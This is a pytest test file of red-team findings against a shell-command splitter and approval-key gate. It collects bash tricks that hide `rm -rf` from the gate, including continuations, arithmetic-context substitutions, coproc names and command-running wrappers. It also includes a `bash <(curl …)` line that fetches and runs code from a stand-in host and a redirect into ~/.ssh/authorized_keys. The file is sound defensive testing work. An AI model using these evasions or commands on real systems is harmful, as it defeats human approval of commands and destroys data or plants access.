"""Red-team findings against the splitter and the keys: each line once hid a command from the gate, made `argv`
lie about what bash runs, or gave a key broader than what the person saw. Every line here is also run under the
real bash with PATH holding only stub programs that log their names (the recording oracle): what bash ran must
be among the parts."""
from __future__ import annotations

import os
import shutil
import subprocess

import pytest

from wispsh.keys import key_for
from wispsh.parse.split import split_line

BASH = shutil.which("bash") or "/bin/bash"


def programs_seen(line: str) -> set[str]:
    """Every program a part shows: its argv[0] and the program its key names (wrappers unwrapped)."""
    seen = set()
    for p in split_line(line).parts:
        if p.argv and p.argv[0]:
            seen.add(os.path.basename(p.argv[0]))
        key = key_for(p)
        if key.program:
            seen.add(key.program)
        if key.command and key.command[0]:
            seen.add(os.path.basename(key.command[0]))
    return seen


def rm_part(line: str):
    hits = [p for p in split_line(line).parts if key_for(p).program == "rm" and p.argv and "rm" in p.argv[0]]
    assert hits, [(p.text, p.argv, key_for(p).pattern) for p in split_line(line).parts]
    return hits[0]


# Lines where bash runs `rm` (checked by the oracle below) and the splitter once showed no rm part.
HIDDEN_RM = [
    # a line continuation inside a word joins it (bash removes backslash-newline before splitting words)
    "r\\\nm -rf a",
    "e\\\nval 'rm -rf a'",
    "ev\\\na\\\nl 'rm -rf a'",
    "cat <<EOF\\\nX\n$(rm -rf a)\nEOFX",      # the delimiter is EOFX, unquoted: the body is expanded
    # single quotes do not protect $(…) in an arithmetic context, quoted or not
    "echo $(( '$(rm -rf a)' ))",
    "echo \"$(( '$(rm -rf a)' ))\"",
    "echo \"$[ '$(rm -rf a)' ]\"",
    "echo \"${x['$(rm -rf a)']}\"",
    "echo ${x['$(rm -rf a)']}",
    # {fd}>file is a redirect with a named descriptor, not a word
    "exec {fd}>f rm -rf a",
    "exec {out}>>f {in}<f rm -rf a",
    # coproc NAME before a compound command is the coprocess's name, not a command
    "coproc NAME { rm -rf a; }",
    "coproc NAME while true; do rm -rf a; break; done",
    # literal code stored in a variable, then evaluated: prompt expansion, indirection, arithmetic
    "x='$(rm -rf a)'; echo ${x@P}",
    "x='a[$(rm -rf a)]'; echo ${!x}",
    "x='a[$(rm -rf a)]'; [[ $x -eq 1 ]]",
    "declare x='a[$(rm -rf a)]'; echo $((x))",
    "read x <<< 'a[$(rm -rf a)]'; echo $((x))",
    "printf -v x '%s' 'a[$(rm -rf a)]'; echo $((x))",
    "mapfile -t a <<< 'a[$(rm -rf a)]'; echo $((a))",
    # inside "…" (and a heredoc) the quotes of ${x:-'…'} and ${x['…']} are plain characters
    "echo \"${x:-'$(rm -rf a)'}\"",
    "cat <<EOF\n${x['$(rm -rf a)']}\nEOF",
    # the same through the fallback scanner (coproc { …; } flags the parse)
    "coproc { :; }; echo \"$(( '$(rm -rf a)' ))\"",
    "coproc { :; }; echo \"${x:-'$(rm -rf a)'}\"",
    "coproc { :; }; echo ${x['$(rm -rf a)']}",
    "coproc { :; }; echo ${x:-<(rm -rf a)}",
    # a process substitution in an expansion's word; a redirect of a function definition (runs at each call)
    "echo ${x:-<(rm -rf a)}",
    "f() { :; } > $(rm -rf a)\nf",
    "function f { :; } 2>`rm -rf a`; f",
    # commands that run a command or code given as their arguments
    "git submodule foreach 'rm -rf a'",
    "git submodule foreach --recursive rm -rf a",
    "git rebase -x 'rm -rf a' main",
    "git rebase --exec='rm -rf a' main",
    "git bisect run rm -rf a",
    "script -qc 'rm -rf a' /dev/null",
    "unshare -r rm -rf a",
    "systemd-run --user -p X=1 rm -rf a",
    "nsenter -t 1 -m rm -rf a",
]


@pytest.mark.parametrize("line", HIDDEN_RM)
def test_rm_is_a_part(line):
    assert "rm" in programs_seen(line), [(p.text, p.argv) for p in split_line(line).parts]


@pytest.mark.parametrize("line", [
    "r\\\nm -rf a", "e\\\nval 'rm -rf a'", "exec {fd}>f rm -rf a", "coproc NAME { rm -rf a; }",
    "git st\\\natus", "gi\\\nt push",
])
def test_argv_reads_as_bash_reads(line):
    for p in split_line(line).parts:
        assert p.argv and p.argv[0] not in ("r", "e", "{fd}", "NAME", "gi", "{"), (p.text, p.argv)


def test_continuation_joins_verb_and_program():
    assert key_for(split_line("git st\\\natus").parts[0]).pattern == "git status *"
    assert key_for(split_line("gi\\\nt push").parts[0]).pattern == "git push *"
    assert split_line("echo a\\\n b").parts[0].argv == ("echo", "a", "b")   # a blank after it still separates


def test_dollar_continued_into_a_substitution_is_a_runtime_program():
    s = split_line("$\\\n(rm -rf a)")
    holder = s.parts[0]
    assert holder.argv[0] is None and holder.runtime_program
    assert key_for(holder).exact
    assert "rm" in programs_seen("$\\\n(rm -rf a)")


def test_named_descriptor_redirects():
    s = split_line("exec {fd}>f rm -rf a")
    (p,) = s.parts
    assert p.argv == ("exec", "rm", "-rf", "a")
    assert [(r.fd, r.op, r.target) for r in p.redirects] == [("{fd}", ">", "f")]
    assert key_for(p).pattern == "rm *"
    q = split_line("ls {fd}>f").parts[0]
    assert q.argv == ("ls",) and q.redirects[0].fd == "{fd}"
    # not a redirect: a blank between the name and the operator, or not a name
    assert split_line("echo {fd} >f").parts[0].argv == ("echo", "{fd}")


def test_coproc_name_is_not_a_program():
    s = split_line("coproc NAME { rm -rf a; }")
    assert [p.argv for p in s.parts] == [("rm", "-rf", "a")]
    s = split_line("coproc NAME (rm -rf a)")
    assert [p.argv for p in s.parts] == [("rm", "-rf", "a")]
    # with a simple command there is no name: bash runs NAME
    assert split_line("coproc NAME rm -rf a").parts[0].argv[0] == "NAME"


def test_prompt_expansion_of_a_runtime_value_is_opaque():
    s = split_line('for f in *; do echo "${f@P}"; done')
    assert any(p.opaque for p in s.parts)
    assert not any(p.opaque for p in split_line('echo "${f@Q}" ${#f} ${f^^}').parts)


def test_a_stored_substitution_is_surfaced_but_a_plain_value_is_not():
    s = split_line("msg='hello world'; echo \"$msg\"")
    assert [p.argv[:1] for p in s.parts] == [(), ("echo",)]
    # quoted $(…) is data where nothing in the line evaluates text
    assert [p.argv[0] for p in split_line("echo 'run $(rm -rf a) later' | grep -c run").parts] == ["echo", "grep"]
    assert [p.argv[0] for p in split_line("git commit -m 'fix $(rm) docs'").parts] == ["git"]


# ---------------------------------------------------------------- NUL bytes: bash drops them from its input


def test_nul_bytes_are_read_away_as_bash_does():
    line = "r\x00m -rf a; ls\x00 -l"
    s = split_line(line)
    assert [p.argv for p in s.parts] == [("rm", "-rf", "a"), ("ls", "-l")]
    assert not s.ok and any("NUL" in n for n in s.notes)
    # spans still point into the line as given
    assert [line[a:b] for a, b in (p.span for p in s.parts)] == ["r\x00m -rf a", "ls\x00 -l"]


def test_bash_drops_nul_when_sourcing(tmp_path):
    script = tmp_path / "s"
    script.write_bytes(b"printf %s r\x00m\n")
    out = subprocess.run([BASH, "--norc", "-c", f". {script}"], capture_output=True, check=True)
    assert out.stdout == b"rm"


# ---------------------------------------------------------------- keys that were broader than what was shown


@pytest.mark.parametrize("line", [
    "git -c core.fsmonitor='rm -rf ~' status",
    "git -ccore.pager='rm -rf ~' log",
    "git -c \"$X\" status",
    "git --config-env=core.pager=EVIL log",
    "git --exec-path=. status",
    "git --exec-path . status",
    "cargo --config 'build.rustc-wrapper=\"/tmp/x\"' build",
    "bash <(curl -s https://x.example/i)",
    "sh <(echo rm -rf a)",
])
def test_code_given_by_configuration_or_a_pipe_is_exact(line):
    key = key_for(split_line(line).parts[0])
    assert key.exact and key.pattern == split_line(line).parts[0].text, key


@pytest.mark.parametrize("line, expected", [
    ("git -c user.name=x -c user.email=y commit -m z", "git commit *"),
    ("git -c color.ui=always log", "git log *"),
    ("git --exec-path", "git *"),
    ("bash ./build.sh", "bash *"),
])
def test_harmless_configuration_keeps_the_verb(line, expected):
    assert key_for(split_line(line).parts[0]).pattern == expected


# ---------------------------------------------------------------- the recording oracle over every line above


@pytest.fixture(scope="module")
def stubs(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    bin_dir = root / "bin"
    bin_dir.mkdir()
    for name in ("rm", "ls", "NAME", "r", "m", "e", "val", "git", "script", "unshare", "systemd-run", "nsenter"):
        stub = bin_dir / name
        if name in ("script", "unshare", "systemd-run", "nsenter"):   # run what they would run, by name only
            stub.write_text('#!/bin/sh\nprintf "%s\\n" "${0##*/}" >> "$STUB_LOG"\n')
        else:
            stub.write_text('#!/bin/sh\nprintf "%s\\n" "${0##*/}" >> "$STUB_LOG"\n')
        stub.chmod(0o755)
    work = root / "work"
    work.mkdir()
    return root


ORACLE_LINES = [line for line in HIDDEN_RM if not line.startswith(("git ", "script", "unshare", "systemd", "nsenter"))]


@pytest.mark.parametrize("line", ORACLE_LINES)
def test_recording_oracle(stubs, line):
    log = stubs / "log"
    log.write_text("")
    env = {"PATH": str(stubs / "bin"), "HOME": str(stubs / "work"), "STUB_LOG": str(log), "LC_ALL": "C"}
    # output through a pipe: run() returns only when every process holding it (coprocesses, process
    # substitutions that bash does not wait for) has ended, so the log is complete
    subprocess.run([BASH, "--norc", "--noprofile", "-c", line], cwd=stubs / "work", env=env,
                   stdin=subprocess.DEVNULL, capture_output=True, timeout=10)
    ran = set(log.read_text().split())
    assert "rm" in ran, (line, ran)            # the line really runs rm under bash …
    assert ran <= programs_seen(line), (line, ran, programs_seen(line))   # … and the splitter shows it


@pytest.mark.parametrize("line, expected", [
    ("./ls -la", "./ls *"),                 # a local script named ls is not the system's ls
    ("/tmp/cat secret", "/tmp/cat *"),
    ("sudo ./deploy.sh", "./deploy.sh *"),
    ("./git push", "./git *"),              # and has none of git's verbs
    ("/usr/bin/ls -la", "ls *"),            # the system's directories are stripped as before
    ("/usr//bin/head -n1 f", "head *"),
    ("/bin/rm -rf x", "rm *"),
])
def test_a_program_outside_the_system_directories_keeps_its_path(line, expected):
    key = key_for(split_line(line).parts[0])
    assert key.pattern == expected and not key.exact
    assert key.program == expected.split()[0].rsplit("/", 1)[-1]   # --explain's `program`: directory stripped


def test_an_approval_of_the_harmless_part_never_covers_the_hidden_one():
    """One key per part: the command a runner or a code option runs is a part with its own key."""
    for line, holder in [("unshare -r rm -rf a", "unshare *"), ("git submodule foreach 'rm -rf a'", "git submodule *"),
                         ("git rebase -x 'rm -rf a' main", "git rebase *"),
                         ("tar --to-command='rm -rf a' -xf t", "tar *"),
                         ("script -qc 'rm -rf a' /dev/null", "script *")]:
        keys = [key_for(p).pattern for p in split_line(line).parts]
        assert keys[0] == holder and "rm *" in keys, (line, keys)


@pytest.mark.parametrize("line, inner", [
    ("uv run rm -rf a", ("rm", "-rf", "a")),
    ("uv run --with requests python x.py", ("python", "x.py")),
    ("npm exec -- rm -rf a", ("rm", "-rf", "a")),
    ("bundle exec rm -rf a", ("rm", "-rf", "a")),
    ("poetry run pytest -q", ("pytest", "-q")),
    ("uv run \"$X\"", (None,)),
])
def test_verbs_that_run_a_command_show_it_as_a_part(line, inner):
    parts = split_line(line).parts
    assert [p.argv for p in parts[1:]] == [inner]
    assert parts[1].parent == 0
    if inner == (None,):
        assert key_for(parts[1]).exact


def test_npm_exec_call_is_code():
    parts = split_line("npm exec -c 'rm -rf a && ls'").parts
    assert [p.argv[0] for p in parts] == ["npm", "rm", "ls"]


def test_a_function_definition_redirect_applies_to_its_body():
    echo = split_line("f() { echo x; } > ~/.ssh/authorized_keys; f").parts[0]
    assert echo.argv == ("echo", "x") and [(r.op, r.target) for r in echo.redirects] == [(">", "~/.ssh/authorized_keys")]


def test_config_options_are_data(tmp_path):
    from wispsh.keys import load_multiplexers

    programs = tmp_path / "m.txt"
    programs.write_text("tool\n")
    options = tmp_path / "o.txt"
    options.write_text("tool: --conf\ntool @config: --conf -x\ntool @harmless-config: color.\n")
    table = load_multiplexers(programs, options)

    def key(line):
        return key_for(split_line(line).parts[0], table)

    assert key("tool --conf color.ui=1 build").pattern == "tool build *"
    assert key("tool --conf hook=rm build").exact
    assert key("tool -xhook=rm build").exact
    assert key("tool build --conf hook=rm").pattern == "tool build *"   # after the verb: the verb's own option
